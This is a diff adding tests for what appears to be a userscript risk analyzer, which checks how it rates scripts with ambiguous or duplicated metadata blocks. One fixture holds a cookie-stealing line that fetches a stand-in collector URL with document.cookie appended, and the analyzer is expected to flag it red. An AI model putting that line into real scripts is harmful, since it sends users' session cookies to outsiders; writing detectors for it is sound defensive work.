@@ -33,3 +33,39 @@ describe("ambiguous-text", () => {
 		expect(findIn(ambiguousText, code)).toEqual([]);
 	});
 });
+
+describe("the reading that is installed", () => {
+	const rated = (code: string) => analyzeScript({ code, reading: "installed" });
+	const block = (...lines: readonly string[]) =>
+		["// ==UserScript==", "// @name A", ...lines, "// ==/UserScript=="].join("\n");
+
+	test.each([
+		["code above the block", `start();\n${block("// @match https://a.example/*")}\nrun();`],
+		["a marker in a string", `${block("// @match https://a.example/*")}\nf("==UserScript==");`],
+		["a repeated key", `${block("// @match https://a.example/*", "// @version 1", "// @version 2")}\nrun();`],
+		["a near miss", `${block("// @Match https://a.example/*")}\nrun();`],
+		["await with two meanings", `${block("// @match https://a.example/*")}\nvar g, x = await\n/1/g;`],
+	])("of %s is rated, and the rating names the place", (_, code) => {
+		const { risk_level, vulnerabilities } = rated(code);
+		expect([risk_level, ...new Set(vulnerabilities.map(({ type, severity }) => `${type} ${severity}`))]).toEqual([
+			"green",
+			"ambiguous-text low",
+		]);
+		expect(vulnerabilities[0]?.description).toContain("as this extension reads and runs it");
+		// For the hub, whose readers differ, the same text is not harmless.
+		expect(analyzeScript({ code }).vulnerabilities.length).toBeGreaterThan(0);
+	});
+
+	test("of code above the block is judged as the program that runs", () => {
+		const code = `fetch("https://collector.stranger.test/?c=" + document.cookie);\n${block("// @match https://a.example/*")}`;
+		expect(rated(code).risk_level).toBe("red");
+	});
+
+	test("takes pages and permissions from the block that counts", () => {
+		const code = `${block("// @Match https://a.example/*", "// @grant\u00a0GM_setValue")}\n${block("// @match *://*/*")}\nrun();`;
+		expect(rated(code).capabilities).toMatchObject({
+			runs_on: [{ what: "https://a.example/*" }],
+			grants: [{ what: "GM_setValue" }],
+		});
+	});
+});
